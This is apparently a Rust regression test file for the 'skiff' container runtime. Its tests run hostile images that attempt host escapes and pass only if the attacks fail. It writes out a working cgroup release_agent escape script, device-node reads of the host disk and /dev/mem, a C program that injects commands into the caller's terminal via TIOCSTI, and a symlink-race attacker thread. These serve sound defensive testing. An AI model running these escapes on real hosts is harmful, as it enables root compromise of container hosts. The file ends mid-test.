//! The host escapes of the default configuration (the security issue),
//! each performed for real by a hostile image made here: the test fails if
//! the attack works. Run under the `ns` and `oci` flavors where the
//! flavor can be affected.

use std::path::{Path, PathBuf};

use crate::common::*;

/// An image of busybox whose app is `app` (JSON of the manifest's `app`).
fn hostile_image(dir: &Path, app: &str) -> PathBuf {
    image_with_app(dir, "example.com/hostile", app)
}

/// Runs the image's app as a pod of `flavor`, no network, unsigned
/// images accepted (and `insecure`, more checks skipped).
fn run_pod(root: &Path, flavor: &str, insecure: &str, aci: &Path) -> std::process::Output {
    output(
        skiff_in(root)
            .arg(format!("--insecure-options=image{insecure}"))
            .args(["run", "--net=none"])
            .arg(format!("--stage1={flavor}"))
            .arg(aci),
    )
}

/// The classic cgroup v1 `release_agent` escape: mount a cgroup
/// hierarchy, point its release agent at a script in the pod's upper
/// layer and empty a cgroup, so the host's kernel runs the script as root.
const RELEASE_AGENT_ESCAPE: &str = r#"
b=/bin/busybox
$b mkdir -p /cg
if $b mount -t cgroup -o memory cgroup /cg 2>/dev/null; then
  echo MOUNTED
  [ "$1" = probe ] && exit 0
  upper=$($b sed -n 's/.* \/ overlay .*upperdir=\([^,]*\).*/\1/p' /proc/mounts | $b head -1)
  printf '#!/bin/sh\necho escaped > %s\n' "$MARKER" > /payload
  $b chmod +x /payload
  $b mkdir -p /cg/skiff-escape
  echo 1 > /cg/skiff-escape/notify_on_release
  echo "$upper/payload" > /cg/release_agent && echo AGENT-SET
  $b sh -c 'echo $$ > /cg/skiff-escape/cgroup.procs'
  $b sleep 1
  $b rmdir /cg/skiff-escape
fi
echo done
"#;

fn escape_app(mode: &str, marker: &Path) -> String {
    let script = serde_json::to_string(RELEASE_AGENT_ESCAPE).unwrap();
    format!(
        r#"{{"exec": ["/bin/sh", "-c", {script}, "sh", "{mode}"], "user": "0", "group": "0",
            "environment": [{{"name": "MARKER", "value": "{}"}}],
            "isolators": [
              {{"name": "os/linux/capabilities-retain-set", "value": {{"set": ["CAP_SYS_ADMIN", "CAP_CHOWN"]}}}},
              {{"name": "os/linux/seccomp-remove-set", "value": {{"set": ["acct"], "errno": "EPERM"}}}},
              {{"name": "os/linux/no-new-privileges", "value": false}}
            ]}}"#,
        marker.display()
    )
}

#[test]
fn an_image_cannot_grant_itself_privileges() {
    for flavor in ["ns", "oci"] {
        let tmp = tempfile::tempdir().unwrap();
        let root = tmp.path();
        let _guard = PodsGuard { root };
        let marker = root.join("escaped");
        let aci = hostile_image(root, &escape_app("attack", &marker));
        let out = run_pod(root, flavor, "", &aci);
        let text = stdout(&out);
        assert!(
            text.contains("done"),
            "{flavor}: the app did not run: {text} {}",
            stderr(&out)
        );
        assert!(
            !text.contains("MOUNTED"),
            "{flavor}: the image mounted a cgroup hierarchy: {text}"
        );
        assert!(
            !text.contains("AGENT-SET"),
            "{flavor}: the image set a release agent: {text}"
        );
        assert!(
            !marker.exists(),
            "{flavor}: the host ran the image's program"
        );
        // What was asked and refused is said, with the flag that grants it.
        let err = stderr(&out);
        for said in [
            "CAP_SYS_ADMIN (in os/linux/capabilities-retain-set) not granted",
            "added to the default seccomp filter",
            "no-new-privileges: false ignored",
        ] {
            assert!(err.contains(said), "{flavor}: '{said}' not in: {err}");
        }

        // The test can fail: with the user's explicit grant, the same image
        // mounts the hierarchy (and stops there).
        let aci = hostile_image(root, &escape_app("probe", &marker));
        let out = run_pod(root, flavor, ",capabilities,seccomp", &aci);
        assert!(
            stdout(&out).contains("MOUNTED"),
            "{flavor}: granted, the probe should mount: {} {}",
            stdout(&out),
            stderr(&out)
        );
        let _ = output(skiff_in(root).args(["gc", "--grace-period=0s"]));
    }
}

/// Makes device nodes (the host's root disk, /dev/kvm, loop0, /dev/mem)
/// in every place a pod can write, then tries to read each.
const DEVICE_ATTACK: &str = r#"
b=/bin/busybox
for dir in /dev /dev/shm / /vol /tmp; do
  $b mkdir -p $dir
  for spec in "disk b $DISK" "kvm c 10 232" "loop b 7 0" "mem c 1 1"; do
    set -- $spec
    node=$dir/skiff-$1
    $b mknod $node $2 $3 $4 2>/dev/null && echo "MADE $node"
    $b dd if=$node of=/dev/null bs=1 count=1 2>/dev/null && echo "OPENED $node"
  done
done
$b dd if=/dev/zero of=/dev/null bs=1 count=1 2>/dev/null && echo "ALLOWED /dev/zero"
$b dd if=/dev/urandom of=/dev/null bs=1 count=1 2>/dev/null && echo "ALLOWED /dev/urandom"
echo done
"#;

#[test]
fn device_nodes_made_in_a_pod_cannot_be_opened() {
    // The device of the host's root file system, as a pod would guess it.
    let dev = rustix::fs::stat("/").unwrap().st_dev;
    let disk = format!("{} {}", rustix::fs::major(dev), rustix::fs::minor(dev));
    for flavor in ["ns", "oci"] {
        let tmp = tempfile::tempdir().unwrap();
        let root = tmp.path();
        let _guard = PodsGuard { root };
        let vol = root.join("vol");
        std::fs::create_dir_all(&vol).unwrap();
        let script = serde_json::to_string(DEVICE_ATTACK).unwrap();
        let aci = hostile_image(
            root,
            &format!(
                r#"{{"exec": ["/bin/sh", "-c", {script}], "user": "0", "group": "0",
                    "environment": [{{"name": "DISK", "value": "{disk}"}}]}}"#
            ),
        );
        let out = output(
            skiff_in(root)
                .args(["--insecure-options=image", "run", "--net=none"])
                .arg(format!("--stage1={flavor}"))
                .arg(format!("--volume=vol,kind=host,source={}", vol.display()))
                .arg(&aci)
                .arg("--mount=volume=vol,target=/vol"),
        );
        let text = stdout(&out);
        assert!(text.contains("done"), "{flavor}: {text} {}", stderr(&out));
        // The check can see an open: the allowed devices open.
        assert!(
            text.contains("ALLOWED /dev/zero") && text.contains("ALLOWED /dev/urandom"),
            "{flavor}: {text}"
        );
        let opened: Vec<&str> = text.lines().filter(|l| l.starts_with("OPENED")).collect();
        assert!(
            opened.is_empty(),
            "{flavor}: a pod opened device nodes it made: {opened:?}"
        );
        // Nodes may be made (as in Docker), so the attack really ran.
        assert!(text.contains("MADE /dev/skiff-disk"), "{flavor}: {text}");
        let _ = output(skiff_in(root).args(["gc", "--grace-period=0s"]));
    }
}

/// Lists every fd past stdio the app holds, with where it leads.
const FD_LEAK_PROBE: &str = r#"
for fd in /proc/$$/fd/*; do
  n=${fd##*/}
  [ "$n" -gt 2 ] || continue
  target=$(/bin/busybox readlink $fd)
  # The shell's own fds are the script it reads; anything else leaked.
  case "$target" in pipe:*|/dev/*|*/proc/*) ;; *) echo "LEAK $n $target";; esac
  /bin/busybox cat $fd/../../../../../../../../../etc/hostname 2>/dev/null && echo "HOST-READ via $n"
done
echo done
"#;

#[test]
fn an_image_filter_cannot_keep_host_fds_open() {
    for flavor in ["ns", "oci"] {
        let tmp = tempfile::tempdir().unwrap();
        let root = tmp.path();
        let _guard = PodsGuard { root };
        let script = serde_json::to_string(FD_LEAK_PROBE).unwrap();
        // Refusing close_range would leave stage1's fds open in the app.
        let aci = hostile_image(
            root,
            &format!(
                r#"{{"exec": ["/bin/sh", "-c", {script}], "user": "0", "group": "0",
                    "isolators": [{{"name": "os/linux/seccomp-remove-set",
                                    "value": {{"set": ["close_range"], "errno": "EPERM"}}}}]}}"#
            ),
        );
        let out = run_pod(root, flavor, "", &aci);
        let text = stdout(&out);
        assert!(text.contains("done"), "{flavor}: {text} {}", stderr(&out));
        assert!(
            !text.contains("LEAK") && !text.contains("HOST-READ"),
            "{flavor}: {text}"
        );
        let _ = output(skiff_in(root).args(["gc", "--grace-period=0s"]));
    }
}

/// Pushes a command line into the input of the terminal on stdin
/// (TIOCSTI), as a hostile app would to have the caller's shell run it,
/// opens /dev/tty, and turns off the echo of any terminal on its stdio
/// (which would outlive the pod).
const TIOCSTI_ATTACK: &str = r#"
#include <stdio.h>
#include <sys/ioctl.h>
#include <termios.h>
#include <unistd.h>
int main(void) {
    const char *line = "echo INJECTED-BY-THE-POD\n";
    int pushed = 0, ttys = 0, changed = 0;
    for (const char *c = line; *c; c++)
        if (ioctl(0, TIOCSTI, c) == 0) pushed++;
    FILE *tty = fopen("/dev/tty", "w");
    for (int fd = 0; fd < 3; fd++) {
        struct termios t;
        if (!isatty(fd)) continue;
        ttys++;
        if (tcgetattr(fd, &t) == 0) {
            t.c_lflag &= ~ECHO;
            if (tcsetattr(fd, TCSANOW, &t) == 0) changed++;
        }
    }
    printf("pushed=%d dev-tty=%s ttys=%d changed=%d\n", pushed, tty ? "opened" : "refused", ttys, changed);
    return 0;
}
"#;

/// An image with busybox and the C program `source`, compiled static to
/// `/<name>` (also run outside the pod, as the tests' control, from
/// `<root>/layout-example.com_hostile/rootfs/<name>`).
fn c_program_image(root: &Path, name: &str, source: &str) -> PathBuf {
    let src = root.join(format!("{name}.c"));
    std::fs::write(&src, source).unwrap();
    let layout = root.join("layout-example.com_hostile");
    busybox_layout(&layout);
    let built = output(
        std::process::Command::new("gcc")
            .args(["-static", "-O", "-o"])
            .arg(layout.join("rootfs").join(name))
            .arg(&src),
    );
    assert!(built.status.success(), "gcc: {}", stderr(&built));
    hostile_image(
        root,
        r#"{"exec": ["/bin/busybox", "sleep", "600"], "user": "0", "group": "0"}"#,
    )
}

/// The attack program, compiled static into an image's /sti.
fn tiocsti_image(root: &Path) -> PathBuf {
    c_program_image(root, "sti", TIOCSTI_ATTACK)
}

/// Turns off address space randomization for what the pod runs next
/// (`setarch -R`), queries the persona, as any program may, and makes a
/// user namespace with a raw `clone`.
const PERSONALITY_ATTACK: &str = r#"
#define _GNU_SOURCE
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <sys/personality.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>
int main(void) {
    int set = personality(ADDR_NO_RANDOMIZE);
    int now = personality(0xffffffff);
    long child = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
    if (child == 0) _exit(0);
    if (child > 0) waitpid(child, 0, 0);
    printf("no-randomize=%s query=%s newuser=%s\n", set == -1 ? "refused" : "set",
           now == -1 ? "refused" : (now & ADDR_NO_RANDOMIZE) ? "randomization-off" : "ok",
           child > 0 ? "made" : "refused");
    return 0;
}
"#;

/// What a static C program needs, plus the calls the attack wants.
const RETAIN_FOR_ATTACK: &str = r#"["execve", "brk", "arch_prctl", "set_tid_address", "set_robust_list",
    "rseq", "prlimit64", "mprotect", "uname", "readlink", "readlinkat", "getrandom", "write", "writev",
    "exit_group", "exit", "newfstatat", "fstat", "ioctl", "mmap", "munmap", "futex", "rt_sigprocmask",
    "rt_sigaction", "wait4", "getpid", "personality", "clone", "clone3", "unshare"]"#;

#[test]
fn personality_takes_only_the_usual_personas() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path();
    let _guard = PodsGuard { root };
    let plain = c_program_image(root, "persona", PERSONALITY_ATTACK);
    let plain_copy = root.join("plain.aci");
    std::fs::rename(&plain, &plain_copy).unwrap();
    // The same program in an image whose retain-set names the guarded
    // calls: applied on top of the default filter, it must not lift it.
    let retaining = hostile_image(
        root,
        &format!(
            r#"{{"exec": ["/persona"], "user": "0", "group": "0",
                "isolators": [{{"name": "os/linux/seccomp-retain-set",
                                "value": {{"set": {RETAIN_FOR_ATTACK}, "errno": "ENOSYS"}}}}]}}"#
        ),
    );
    for flavor in ["ns", "oci"] {
        for aci in [&plain_copy, &retaining] {
            let out = output(
                skiff_in(root)
                    .args(["--insecure-options=image", "run", "--net=none"])
                    .arg(format!("--stage1={flavor}"))
                    .arg(aci)
                    .arg("--exec=/persona"),
            );
            assert!(out.status.success(), "{flavor}: {}", stderr(&out));
            assert!(
                stdout(&out).contains("no-randomize=refused query=ok newuser=refused"),
                "{flavor} {}: {}{}",
                aci.display(),
                stdout(&out),
                stderr(&out)
            );
        }
    }
    // The check can fail: outside any pod.
    let out = output(&mut std::process::Command::new(
        root.join("layout-example.com_hostile/rootfs/persona"),
    ));
    assert!(
        stdout(&out).contains("no-randomize=set query=randomization-off newuser=made"),
        "{}",
        stdout(&out)
    );
}

/// What the attack program prints when nothing of the caller's terminal
/// reached it.
const NO_TERMINAL: &str = "pushed=0 dev-tty=refused ttys=0 changed=0";

/// `skiff run` (no --interactive) and `skiff enter` (no --tty) on a
/// terminal: the pod gets pipes, never the terminal itself (it can neither
/// type into it, nor open it, nor change its modes), and still reads what
/// the user types and shows what it writes, on stdout and stderr.
#[test]
fn pod_processes_cannot_type_into_the_callers_terminal() {
    let skiff = env!("CARGO_BIN_EXE_skiff");
    for flavor in ["ns", "oci"] {
        let tmp = tempfile::tempdir().unwrap();
        let root = tmp.path();
        let _guard = PodsGuard { root };
        let aci = tiocsti_image(root);
        let data = root.join("data");
        // The app itself, on the caller's terminal (no --interactive); the
        // terminal's echo is checked after the pod ended.
        let mut term = Terminal::start(&format!(
            "SKIFF_DIR={} {skiff} --insecure-options=image run --net=none --stage1={flavor} {} --exec=/bin/busybox -- sh -c '/sti; echo ready-for-input:; read line; echo got-$line; echo to-stderr >&2; exit 4'; echo exit=$?; stty -a",
            data.display(),
            aci.display()
        ));
        term.wait_for("ready-for-input:");
        term.send("typed-by-the-user\n");
        let (text, code) = term.finish();
        assert_eq!(code, Some(0), "{flavor}: {text}");
        assert!(
            text.contains(NO_TERMINAL),
            "{flavor}: the app drove the caller's terminal: {text}"
        );
        assert!(text.contains("got-typed-by-the-user"), "{flavor}: {text}");
        assert!(text.contains("to-stderr"), "{flavor}: {text}");
        assert!(text.contains("exit=4"), "{flavor}: {text}");
        assert!(
            text.contains(" echo ") && !text.contains("-echo "),
            "{flavor}: the terminal's echo was turned off: {text}"
        );
        // A command run by `skiff enter`, on the caller's terminal.
        if flavor == "ns" {
            let out = output(
                skiff_in(root)
                    .args(["--insecure-options=image", "run", "--detach", "--net=none"])
                    .arg(&aci),
            );
            assert!(out.status.success(), "{}", stderr(&out));
            let uuid = stdout(&out).trim().to_string();
            let term = Terminal::start(&format!(
                "SKIFF_DIR={} {skiff} enter -i {uuid} /sti",
                data.display()
            ));
            let (text, code) = term.finish();
            assert_eq!(code, Some(0), "enter: {text}");
            assert!(
                text.contains(NO_TERMINAL),
                "enter: the command drove the caller's terminal: {text}"
            );
            // enter --tty: a terminal of the pod's own devpts, not the
            // caller's (the one TIOCSTI reaches is the command's own).
            let mut term = Terminal::start(&format!(
                "SKIFF_DIR={} {skiff} enter -t {uuid} /bin/busybox sh -c 'echo ready-for-input:; read line; eval \"$line\"; exit 5'; echo exit=$?",
                data.display()
            ));
            term.wait_for("ready-for-input:");
            term.send("echo pts=$(stat -L -c %d /proc/self/fd/0)/$(stat -c %d /dev/pts/ptmx) name=$(tty)\n");
            let (text, code) = term.finish();
            assert_eq!(code, Some(0), "enter -t: {text}");
            assert!(text.contains("exit=5"), "enter -t: {text}");
            // The answer, not the echo of the typed line.
            let pts = text
                .match_indices("pts=")
                .map(|(at, _)| &text[at + 4..])
                .find(|t| t.starts_with(|c: char| c.is_ascii_digit()))
                .and_then(|t| t.split_whitespace().next())
                .unwrap_or_default()
                .to_string();
            let (own, pods) = pts.split_once('/').unwrap_or_default();
            assert!(
                !own.is_empty() && own == pods,
                "enter -t: not a terminal of the pod's devpts ({pts}): {text}"
            );
            assert!(text.contains("name=/dev/pts/0"), "enter -t: {text}");
            // Without a terminal, --tty is refused before anything happens.
            let out = output(skiff_in(root).args(["enter", "--tty", &uuid, "/bin/true"]));
            assert_eq!(out.status.code(), Some(125), "{}", stderr(&out));
            assert!(
                stderr(&out).contains("--tty needs a terminal"),
                "{}",
                stderr(&out)
            );
            let _ = output(skiff_in(root).args(["stop", "--force", &uuid]));
        }
        // The check can fail: on the same terminal, outside any pod.
        let term = Terminal::start(&format!(
            "{} < /dev/tty",
            root.join("layout-example.com_hostile/rootfs/sti").display()
        ));
        let (text, _) = term.finish();
        assert!(text.contains("dev-tty=opened ttys=3 changed=3"), "{text}");
    }
}

/// Unmounts a test's host mount when dropped, also on failure.
struct Unmount(PathBuf);

impl Drop for Unmount {
    fn drop(&mut self) {
        let _ = rustix::mount::unmount(&self.0, rustix::mount::UnmountFlags::DETACH);
    }
}

#[test]
fn recursive_read_only_volumes_have_no_writable_submount() {
    for flavor in ["ns", "oci"] {
        let tmp = tempfile::tempdir().unwrap();
        let root = tmp.path();
        let _guard = PodsGuard { root };
        // A host directory with a file system mounted inside it.
        let source = root.join("source");
        let sub = source.join("sub");
        std::fs::create_dir_all(&sub).unwrap();
        rustix::mount::mount(
            "tmpfs",
            &sub,
            "tmpfs",
            rustix::mount::MountFlags::empty(),
            None,
        )
        .unwrap();
        let _unmount = Unmount(sub.clone());
        let aci = hostile_image(
            root,
            r#"{"exec": ["/bin/sh", "-c", "echo x > /v/top && echo WROTE-TOP; echo x > /v/sub/below && echo WROTE-SUBMOUNT; echo done"], "user": "0", "group": "0"}"#,
        );
        let out = output(
            skiff_in(root)
                .args(["--insecure-options=image", "run", "--net=none"])
                .arg(format!("--stage1={flavor}"))
                .arg(format!(
                    "--volume=v,kind=host,source={},readOnly=true,recursive=true",
                    source.display()
                ))
                .arg(&aci)
                .arg("--mount=volume=v,target=/v"),
        );
        let text = stdout(&out);
        assert!(text.contains("done"), "{flavor}: {text} {}", stderr(&out));
        assert!(!text.contains("WROTE"), "{flavor}: {text}");
        assert!(
            !source.join("top").exists() && !sub.join("below").exists(),
            "{flavor}"
        );
        // The check can fail: the same submount is writable from the host.
        std::fs::write(sub.join("below"), "host").unwrap();
        let _ = output(skiff_in(root).args(["gc", "--grace-period=0s"]));
    }
}

#[test]
fn what_a_pod_writes_is_out_of_reach_of_local_users() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path();
    let _guard = PodsGuard { root };
    // Others may reach the test's directory (as they may reach
    // /var/lib): only skiff's own permissions stand in the way.
    std::fs::set_permissions(root, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let aci = hostile_image(
        root,
        r#"{"exec": ["/bin/sh", "-c", "/bin/busybox mkdir /suid && /bin/busybox cp /bin/busybox /suid/id && /bin/busybox chmod 4755 /suid/id && echo made"], "user": "0", "group": "0"}"#,
    );
    let kinds = ["", "--private-users", "--private-users --no-overlay"];
    for users in kinds {
        let mut run = skiff_in(root);
        run.args(["--insecure-options=image", "run", "--net=none"]);
        run.args(users.split_whitespace());
        let out = output(run.arg(&aci));
        assert!(stdout(&out).contains("made"), "{users}: {}", stderr(&out));
    }
    // Each pod's setuid copy is on disk in its upper layer (or its copied
    // root with --no-overlay) ...
    let mut copies = Vec::new();
    let mut stack = vec![root.join("data/pods")];
    while let Some(dir) = stack.pop() {
        for entry in std::fs::read_dir(&dir).into_iter().flatten().flatten() {
            if entry.file_type().unwrap().is_dir() {
                stack.push(entry.path());
            } else if entry.path().ends_with("suid/id") {
                copies.push(entry.path());
            }
        }
    }
    assert_eq!(copies.len(), kinds.len(), "{copies:?}");
    let as_nobody = |args: &[&std::ffi::OsStr]| {
        output(
            std::process::Command::new("setpriv")
                .args(["--reuid=65534", "--regid=65534", "--clear-groups"])
                .args(args),
        )
    };
    for copy in &copies {
        use std::os::unix::fs::MetadataExt;
        let meta = std::fs::metadata(copy).unwrap();
        assert!(meta.mode() & 0o4000 != 0, "{}", copy.display());
        // ... and no other user can run it to become root.
        let cmd = format!("exec {} -u", copy.display());
        let out = as_nobody(&["/bin/sh".as_ref(), "-c".as_ref(), cmd.as_ref()]);
        assert!(
            !out.status.success() && !stdout(&out).contains('0'),
            "nobody ran {}: {}",
            copy.display(),
            stdout(&out)
        );
        assert!(
            stderr(&out).contains("Permission denied"),
            "{}",
            stderr(&out)
        );
        // With --private-users the copy belongs to the pod's root on disk.
        if copy.to_string_lossy().contains("overlay") && meta.uid() != 0 {
            assert!(meta.uid() >= 1 << 20, "{}", meta.uid());
        }
    }
    let owners: Vec<u32> = copies
        .iter()
        .map(|c| std::os::unix::fs::MetadataExt::uid(&std::fs::metadata(c).unwrap()))
        .collect();
    // One pod without a user namespace: on-disk root; the two with one
    // (overlay and copy alike): the pod's shifted root.
    assert_eq!(owners.iter().filter(|o| **o == 0).count(), 1, "{owners:?}");
    assert_eq!(
        owners.iter().filter(|o| **o >= 1 << 20).count(),
        2,
        "{owners:?}"
    );
    // The barrier is the data directory: nobody cannot even list it.
    let out = as_nobody(&["/bin/ls".as_ref(), root.join("data").as_os_str()]);
    assert!(!out.status.success(), "{}", stdout(&out));
}

#[test]
fn an_app_cannot_pass_itself_off_as_another_for_enter() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path();
    let _guard = PodsGuard { root };
    let aci = hostile_image(
        root,
        r#"{"exec": ["/bin/busybox", "sleep", "600"], "user": "0", "group": "0"}"#,
    );
    // App `aa` claims to be `bb` (and drops the name it was given).
    let out = output(
        skiff_in(root)
            .args(["--insecure-options=image", "run", "--detach", "--net=none"])
            .arg(&aci)
            .args([
                "--name=aa",
                "--exec=/bin/sh",
                "--",
                "-c",
                "echo aa > /marker; exec /bin/busybox env -i AC_APP_NAME=bb /bin/busybox sleep 600",
            ])
            .arg("---")
            .arg(&aci)
            .args([
                "--name=bb",
                "--exec=/bin/sh",
                "--",
                "-c",
                "echo bb > /marker; exec /bin/busybox sleep 600",
            ]),
    );
    assert!(out.status.success(), "{}", stderr(&out));
    let uuid = stdout(&out).trim().to_string();
    for app in ["aa", "bb"] {
        let seen = eventually(&format!("enter reaches app {app}"), || {
            let out = output(skiff_in(root).args([
                "enter",
                &format!("--app={app}"),
                &uuid,
                "/bin/busybox",
                "cat",
                "/marker",
            ]));
            Some(stdout(&out)).filter(|s| !s.is_empty())
        });
        assert_eq!(
            seen.trim(),
            app,
            "skiff enter --app={app} ran in another app's root"
        );
    }
    let _ = output(skiff_in(root).args(["stop", &uuid]));
}

/// An image of busybox named `name` (with `deps` as its dependencies).
fn named_image(dir: &Path, name: &str, deps: &str) -> PathBuf {
    let layout = dir.join(format!("layout-{}", name.replace('/', "_")));
    busybox_layout(&layout);
    std::fs::write(
        layout.join("manifest"),
        format!(
            r#"{{"acKind": "ImageManifest", "acVersion": "0.8.11", "name": "{name}",
               "labels": [{{"name": "os", "value": "linux"}}, {{"name": "arch", "value": "amd64"}}],
               "app": {{"exec": ["/bin/sh", "-c", "echo ran"], "user": "0", "group": "0"}},
               "dependencies": [{deps}]}}"#
        ),
    )
    .unwrap();
    let aci = dir.join(format!("{}.aci", name.replace('/', "_")));
    let built = output(skiff().args(["image", "build"]).arg(&layout).arg(&aci));
    assert!(built.status.success(), "{}", stderr(&built));
    aci
}

#[test]
fn the_run_policy_holds_for_every_image_and_whole_names() {
    let tmp = tempfile::tempdir().unwrap();
    let d = tmp.path();
    let _guard = PodsGuard { root: d };
    // A key trusted for example.com signs what the test says is signed.
    assert!(
        output(skiff().args(["key", "generate", "--out"]).arg(d.join("k")))
            .status
            .success()
    );
    let trust = output(
        skiff_in(d)
            .args([
                "trust",
                "--prefix",
                "example.com",
                "--skip-fingerprint-review",
            ])
            .arg(d.join("k.pub.asc")),
    );
    assert!(trust.status.success(), "{}", stderr(&trust));
    let sign = |aci: &Path| {
        let out = output(
            skiff()
                .args(["image", "sign"])
                .arg(aci)
                .arg("--key")
                .arg(d.join("k.sec.asc")),
        );
        assert!(out.status.success(), "{}", stderr(&out));
    };
    let policy = d.join("policy.toml");
    let with_policy = |args: &[&str], image: &Path| {
        output(
            skiff_in(d)
                .arg("--policy")
                .arg(&policy)
                .args(args)
                .arg(image),
        )
    };

    // An unsigned dependency, already in the store, under a signed image.
    let dep = named_image(d, "example.com/dep", "");
    let fetched = output(
        skiff_in(d)
            .args(["--insecure-options=image", "fetch"])
            .arg(&dep),
    );
    assert!(fetched.status.success(), "{}", stderr(&fetched));
    let top = named_image(d, "example.com/top", r#"{"imageName": "example.com/dep"}"#);
    sign(&top);
    std::fs::write(&policy, "require-signature = true\n").unwrap();
    let before = image_list(d);
    for command in [&["run", "--net=none"][..], &["prepare", "--net=none"]] {
        let out = with_policy(command, &top);
        assert_refused(&out, "unsigned dependency");
        assert!(
            stderr(&out).contains("refuses example.com/dep")
                && stderr(&out).contains("no trusted key signed it"),
            "{command:?}: {}",
            stderr(&out)
        );
        assert_eq!(image_list(d), before, "{command:?} kept a refused image");
    }
    // The check can fail: signed all the way down, the same pod runs.
    let list = output(skiff_in(d).args(["image", "rm", "example.com/dep"]));
    assert!(list.status.success(), "{}", stderr(&list));
    sign(&dep);
    assert!(output(skiff_in(d).arg("fetch").arg(&dep)).status.success());
    let out = with_policy(&["run", "--net=none"], &top);
    assert!(stdout(&out).contains("ran"), "{}", stderr(&out));

    // Prefixes are whole path segments ...
    std::fs::write(&policy, "trusted-prefixes = [\"example.com/pri\"]\n").unwrap();
    let private = named_image(d, "example.com/private", "");
    sign(&private);
    let out = with_policy(&["run", "--net=none"], &private);
    assert_refused(&out, "example.com/pri admits example.com/private");
    assert!(
        stderr(&out).contains("not under a trusted prefix"),
        "{}",
        stderr(&out)
    );
    // ... and a name must be vouched for by a signature, not only claimed.
    std::fs::write(&policy, "trusted-prefixes = [\"example.com/\"]\n").unwrap();
    let claimed = named_image(d, "example.com/claimed", "");
    let out = output(
        skiff_in(d)
            .arg("--policy")
            .arg(&policy)
            .args(["--insecure-options=image", "run", "--net=none"])
            .arg(&claimed),
    );
    assert_refused(&out, "a claimed name");
    assert!(stderr(&out).contains("only claimed"), "{}", stderr(&out));
    let out = with_policy(&["run", "--net=none"], &private);
    assert!(
        stdout(&out).contains("ran"),
        "signed and under the prefix: {}",
        stderr(&out)
    );
}

#[test]
fn a_pod_sees_its_own_cgroup_tree_read_only() {
    for flavor in ["ns", "oci"] {
        let tmp = tempfile::tempdir().unwrap();
        let root = tmp.path();
        let _guard = PodsGuard { root };
        let aci = hostile_image(
            root,
            r#"{"exec": ["/bin/sh", "-c", "cat /proc/self/cgroup; echo limit=$(cat /sys/fs/cgroup/memory/memory.limit_in_bytes); (echo /x > /sys/fs/cgroup/memory/release_agent) 2>/dev/null && echo AGENT-WRITABLE; /bin/busybox mkdir /sys/fs/cgroup/memory/child 2>/dev/null && echo CGROUP-MADE; echo done"], "user": "0", "group": "0"}"#,
        );
        let out = output(
            skiff_in(root)
                .args(["--insecure-options=image", "run", "--net=none"])
                .arg(format!("--stage1={flavor}"))
                .arg(&aci)
                .arg("--memory=64M"),
        );
        let text = stdout(&out);
        assert!(text.contains("done"), "{flavor}: {text} {}", stderr(&out));
        // Its own tree: no host path (skiff/<uuid>) in sight ...
        assert!(
            !text.contains("skiff"),
            "{flavor}: the host's cgroup paths show: {text}"
        );
        // ... with its limits where a program looks for them, read-only.
        assert!(text.contains("limit=64000000"), "{flavor}: {text}");
        assert!(
            !text.contains("AGENT-WRITABLE") && !text.contains("CGROUP-MADE"),
            "{flavor}: {text}"
        );
        let _ = output(skiff_in(root).args(["gc", "--grace-period=0s"]));
    }
}

#[test]
fn image_extract_cannot_be_redirected_by_a_symlink_race() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path();
    let aci = named_image(root, "example.com/extract", "");
    let fetched = output(
        skiff_in(root)
            .args(["--insecure-options=image", "fetch"])
            .arg(&aci),
    );
    assert!(fetched.status.success(), "{}", stderr(&fetched));
    // Another user's swap: whenever `rootfs` appears in the destination,
    // it is moved away and replaced by a symlink to a directory of theirs.
    let sentinel = root.join("elsewhere");
    std::fs::create_dir_all(&sentinel).unwrap();
    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    for round in 0..20 {
        let dest = root.join(format!("out-{round}"));
        std::fs::create_dir_all(&dest).unwrap();
        let attacker = {
            let (dest, sentinel, stop) = (dest.clone(), sentinel.clone(), stop.clone());
            std::thread::spawn(move || {
                let rootfs = dest.join("rootfs");
                while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                    if rootfs.is_dir() && !rootfs.is_symlink() {
                        let _ = std::fs::rename(&rootfs, dest.join("moved"));
                        let _ = std::os::unix::fs::symlink(&sentinel, &rootfs);
                        return;
                    }
                }
            })
        };
        let _ = output(
            skiff_in(root)
                .args(["image", "extract", "example.com/extract"])
                .arg(&dest),
        );
        stop.store(true, std::sync::atomic::Ordering::Relaxed);
        attacker.join().unwrap();
        stop.store(false, std::sync::atomic::Ordering::Relaxed);
        let written: Vec<_> = std::fs::read_dir(&sentinel).unwrap().collect();
        assert!(
            written.is_empty(),
            "round {round}: the extraction went through the symlink"
        );
    }
}

#[test]
fn the_pods_init_shows_no_host_path() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path();
    let _guard = PodsGuard { root };
    let aci = hostile_image(
        root,
        r#"{"exec": ["/bin/sh", "-c", "cat /proc/1/cmdline /proc/1/comm; echo; echo done"], "user": "0", "group": "0"}"#,
    );
    let out = run_pod(root, "ns", "", &aci);
    let text = stdout(&out);
    assert!(text.contains("done"), "{text} {}", stderr(&out));
    assert!(text.contains("skiff-init"), "{text:?}");
    let host = root.to_string_lossy();
    assert!(
        !text.contains(host.as_ref()) && !text.contains("pods/run"),
        "{text:?}"
    );
    let _ = output(skiff_in(root).args(["gc", "--grace-period=0s"]));
}

/// `/proc/timer_list` (masked: a bind of `/dev/null`) and `/proc/sys`
/// (read-only) as a pod sees them: hidden by default, as they are only
/// with `--insecure-options=paths`, which says so.
#[test]
fn kernel_paths_stay_masked_unless_the_user_says_paths() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path();
    let _guard = PodsGuard { root };
    let script = "b=/bin/busybox; echo timer=$($b wc -c < /proc/timer_list) \
                  sysro=$($b grep ' /proc/sys ' /proc/mounts | $b grep -c ' ro,')";
    let app = serde_json::json!({
        "exec": ["/bin/busybox", "sh", "-c", script], "user": "0", "group": "0"
    });
    let aci = hostile_image(root, &app.to_string());
    for flavor in ["ns", "oci"] {
        let out = run_pod(root, flavor, "", &aci);
        assert!(out.status.success(), "{flavor}: {}", stderr(&out));
        assert!(
